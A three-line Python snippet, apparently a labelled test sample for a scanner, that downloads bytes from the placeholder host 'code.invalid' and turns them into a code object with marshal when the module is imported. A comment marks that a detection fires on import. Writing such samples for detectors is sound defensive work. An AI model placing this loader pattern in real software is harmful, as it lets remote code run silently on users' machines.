import marshal
import urllib.request as net
CODE = marshal.loads(net.urlopen("https://code.invalid/x.bin").read())  # fires: import
